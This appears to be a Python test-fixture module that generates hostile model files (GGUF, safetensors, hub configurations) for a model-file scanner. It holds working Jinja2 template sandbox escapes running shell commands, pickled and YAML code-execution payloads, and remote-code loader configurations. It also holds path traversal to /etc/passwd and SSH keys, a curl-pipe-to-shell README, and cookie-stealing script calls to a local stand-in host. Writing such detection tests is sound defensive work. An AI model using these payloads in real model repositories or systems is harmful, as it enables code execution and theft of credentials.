"""GGUF, safetensors, and what lies beside weights: configurations, templates, notes."""

import json
import struct

from families import COMMAND, URL, Case
from families.libraries import PICKLED

NAME = "texts"
ABOUT = "GGUF, safetensors, configurations"
TOUCH = "touch sealyard-marker"


def gguf(template, **more):
    """A GGUF file of version 3 with text values and no tensor."""
    def text(value):
        raw = value.encode() if isinstance(value, str) else value
        return struct.pack("<Q", len(raw)) + raw

    pairs = {"general.architecture": "llama", "general.name": "tiny", **({"tokenizer.chat_template": template} if template else {}), **more}
    body = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in pairs.items())
    raw = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + body
    return raw + b"\x00" * (-len(raw) % 32)


CHAT = "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
TEMPLATES = {
    "globals": "{{ cycler.__init__.__globals__.os.system('%s') }}" % TOUCH,
    "joiner": CHAT + "{{ joiner.__init__.__globals__.os.popen('%s').read() }}" % TOUCH,
    "namespace": "{{ namespace.__init__.__globals__['os'].system('%s') }}" % TOUCH + CHAT,
    "lipsum": "{%% set x = lipsum.__globals__ %%}{{ x['os'].system('%s') }}" % TOUCH,
    "subclasses": "{%% for c in ''.__class__.__mro__[1].__subclasses__() %%}{%% if c.__name__ == 'Popen' %%}{{ c(['sh', '-c', '%s']).wait() }}{%% endif %%}{%% endfor %%}" % TOUCH,
    "attr-filter": "{{ (cycler|attr('__init__')|attr('__globals__'))['os'].system('%s') }}" % TOUCH,
    "attr-joined": "{{ (cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__'))['o' ~ 's']['system']('%s') }}" % TOUCH,
    "attr-list": "{{ (cycler|attr(['__in','it__']|join)|attr(['__globals','__']|join)).get('os').popen('%s').read() }}" % TOUCH,
    "subscript": "{{ cycler['__init__']['__globals__']['os']['system']('%s') }}" % TOUCH,
    "hexadecimal": "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f']['os']['system']('%s') }}" % TOUCH,
    "format": "{{ (cycler|attr('%%c%%cinit%%c%%c'|format(95,95,95,95))|attr('%%c%%cglobals%%c%%c'|format(95,95,95,95)))['os'].system('%s') }}" % TOUCH,
    "reversed": "{{ (cycler|attr('__tini__'|reverse)|attr('__slabolg__'|reverse))['os'].system('%s') }}" % TOUCH,
    "builtins": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('%s') }}" % TOUCH,
    "map-attribute": "{{ ([cycler]|map(attribute='__init__')|map(attribute='__globals__')|first)['os'].system('%s') }}" % TOUCH,
    "macro": "{%% macro m(x) %%}{{ x.__init__.__globals__.os.system('%s') }}{%% endmacro %%}{{ m(cycler) }}" % TOUCH,
    "set-block": "{%% set a = '__globals__' %%}{{ (lipsum|attr(a)).os.system('%s') }}" % TOUCH,
    "condition": CHAT + "{%% if cycler.__init__.__globals__.os.system('%s') %%}{%% endif %%}" % TOUCH,
    "config": "{{ config.__class__.__init__.__globals__['os'].environ }}",
    "include": "{% include '/etc/passwd' %}",
}


def gguf_cases():
    found = {f"{name}.gguf": (gguf(template), "jinja" if name not in ("config", "include") else None) for name, template in TEMPLATES.items()}
    found["named-template.gguf"] = (gguf(CHAT, **{"tokenizer.chat_template.tool_use": TEMPLATES["globals"]}), None)
    found["pickled-value.gguf"] = (gguf(CHAT, **{"general.description": PICKLED}), None)
    found["pickle-behind.gguf"] = (gguf(CHAT) + PICKLED, None)
    found["length-lies.gguf"] = (gguf(CHAT)[:24] + struct.pack("<Q", 1 << 62) + gguf(CHAT)[32:], None)
    found["count-lies.gguf"] = (b"GGUF" + struct.pack("<IQQ", 3, 1 << 40, 1 << 40) + gguf(None)[24:], None)
    return found


def safetensors(header, data=b"", length=None):
    raw = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def safetensors_cases():
    weight = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    zero = b"\x00" * 8
    metadata = lambda **more: safetensors({"__metadata__": {"format": "pt", **more}, "w": weight}, zero)  # noqa: E731
    text = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    return {
        "overlap": safetensors({"a": weight, "b": {**weight, "data_offsets": [4, 12]}}, zero + b"\x00" * 4),
        "same-bytes": safetensors({"a": weight, "b": weight}, zero),
        "gap": safetensors({"a": weight, "b": {**weight, "data_offsets": [200, 208]}}, zero + PICKLED.ljust(192, b"\x00") + zero),
        "tail": safetensors({"a": weight}, zero + PICKLED),
        "duplicate-key": safetensors(text + b',"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', zero),
        "duplicate-offsets": safetensors(b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"data_offsets":[0,4]}}', zero),
        "beyond-end": safetensors({"w": {**weight, "shape": [1 << 20], "data_offsets": [0, 4 << 20]}}, zero),
        "reversed-offsets": safetensors({"w": {**weight, "data_offsets": [8, 0]}}, zero),
        "size-mismatch": safetensors({"w": {**weight, "shape": [1000]}}, zero),
        "overflowing-shape": safetensors({"w": {**weight, "shape": [1 << 32, 1 << 32, 1 << 32]}}, zero),
        "negative-shape": safetensors({"w": {**weight, "shape": [-2]}}, zero),
        "length-lies": safetensors({"w": weight}, zero, 1 << 60),
        "length-short": safetensors({"w": weight}, zero, 20),
        "header-bytes-behind": safetensors(text + b"}" + PICKLED, zero),
        "pickled-metadata": metadata(model=PICKLED.decode()),
        "python-metadata": metadata(loader=f"__import__('os').system({COMMAND!r})"),
        "shell-metadata": metadata(post_load=f"bash -c '{TOUCH}'", url=URL),
        "script-metadata": metadata(card="<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"),
        "template-metadata": metadata(chat_template=TEMPLATES["globals"]),
    }


def configuration_cases():
    code = b"import os\n\nfrom transformers import PreTrainedModel\n\n\nclass Model(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        os.system(" + repr(COMMAND).encode() + b")\n"
    base = {"model_type": "llama", "architectures": ["Model"], "hidden_size": 8}
    dump = lambda value: json.dumps(value, indent=1).encode()  # noqa: E731
    auto = {"AutoConfig": "modeling_evil.Config", "AutoModel": "modeling_evil.Model"}
    return {
        "auto-map": {"config.json": dump({**base, "auto_map": auto}), "modeling_evil.py": code},
        "auto-map-remote": {"config.json": dump({**base, "auto_map": {"AutoModel": "someone/evil--modeling.Model"}})},
        "auto-map-tokenizer": {"config.json": dump(base), "tokenizer_config.json": dump({"tokenizer_class": "Evil", "auto_map": {"AutoTokenizer": ["tokenization_evil.Evil", None]}}), "tokenization_evil.py": code},
        "auto-map-processor": {"preprocessor_config.json": dump({"auto_map": {"AutoProcessor": "processing_evil.P"}}), "processing_evil.py": code},
        "remote-code.json": dump({**base, "trust_remote_code": True, "auto_map": {"AutoModelForCausalLM": "modeling.Model"}}),
        "custom-pipelines": {"config.json": dump({**base, "custom_pipelines": {"run": {"impl": "pipeline.Evil", "pt": ["AutoModel"]}}}), "pipeline.py": code},
        "custom-generate": {"config.json": dump(base), "custom_generate/generate.py": code},
        "adapter": {"adapter_config.json": dump({"peft_type": "LORA", "base_model_name_or_path": "../../../evil", "auto_mapping": {"base_model_class": "Evil", "parent_library": "evil_package"}})},
        "diffusers": {"model_index.json": dump({"_class_name": ["pipeline", "EvilPipeline"], "unet": ["evil_unet", "EvilUNet"]}), "pipeline.py": code, "unet/evil_unet.py": code},
        "sentence-modules": {"modules.json": dump([{"idx": 0, "name": "0", "path": "", "type": "evil.Transformer"}]), "evil.py": code},
        "sentence-system": {"modules.json": dump([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])},
        "index/model.safetensors.index.json": dump({"metadata": {"total_size": 8}, "weight_map": {"w": "../../../../etc/passwd", "b": "/root/.ssh/id_rsa"}}),
        "index-url/pytorch_model.bin.index.json": dump({"metadata": {}, "weight_map": {"w": "http://127.0.0.1:9/evil.bin"}}),
        "tokenizer_config.json": dump({"tokenizer_class": "LlamaTokenizer", "chat_template": TEMPLATES["globals"]}),
        "named/tokenizer_config.json": dump({"tokenizer_class": "LlamaTokenizer", "chat_template": [{"name": "default", "template": TEMPLATES["attr-joined"]}]}),
        "processor/chat_template.json": dump({"chat_template": TEMPLATES["lipsum"]}),
        "chat_template.jinja": TEMPLATES["builtins"].encode(),
        "quantization/config.json": dump({**base, "quantization_config": {"quant_method": "evil_package.Quantizer", "load_code": "exec(open('x').read())"}}),
        "python-object/config.yaml": f"model: tiny\nhook: !!python/object/apply:os.system ['{TOUCH}']\n".encode(),
        "python-popen/params.yaml": f"model: !!python/object/apply:subprocess.Popen [['sh', '-c', '{TOUCH}']]\n".encode(),
        "python-name/recipe.yml": b"optimizer: !!python/name:os.system\nlr: 0.1\n",
        "hydra/config.yaml": f"model:\n  _target_: subprocess.check_output\n  args: ['sh', '-c', '{TOUCH}']\n".encode(),
        "spacy/config.cfg": b"[nlp]\nlang = \"en\"\n[nlp.tokenizer]\n@tokenizers = \"evil.v1\"\n[initialize.before_init]\n@callbacks = \"evil_package.run.v1\"\n",
        "dataset/tiny.py": b"import datasets\nimport os\n\nos.system(" + repr(COMMAND).encode() + b")\n\n\nclass Tiny(datasets.GeneratorBasedBuilder):\n    pass\n",
        "readme-pipe/README.md": b"# Tiny\n\nRun this before loading:\n\n```sh\ncurl -s http://127.0.0.1:9/install.sh | sh\n```\n",
        "readme-script/README.md": b"# Tiny\n\n<script src=\"http://127.0.0.1:9/x.js\"></script>\n<img src=x onerror=\"fetch('http://127.0.0.1:9/')\">\n",
    }


def cases():
    found = [Case(name, content, "a chat template" if load else "a GGUF that lies", load) for name, (content, load) in gguf_cases().items()]
    found += [Case(f"{name}.safetensors", content, name, None) for name, content in safetensors_cases().items()]
    loads = {"tokenizer_config.json": "jinja", "named/tokenizer_config.json": "jinja", "chat_template.jinja": "jinja", "python-object/config.yaml": "yaml",
             "python-popen/params.yaml": "yaml", "python-name/recipe.yml": None, "dataset/tiny.py": None}
    return found + [Case(name if "." in name or isinstance(content, bytes) else "hub-" + name, content, name, loads.get(name)) for name, content in configuration_cases().items()]
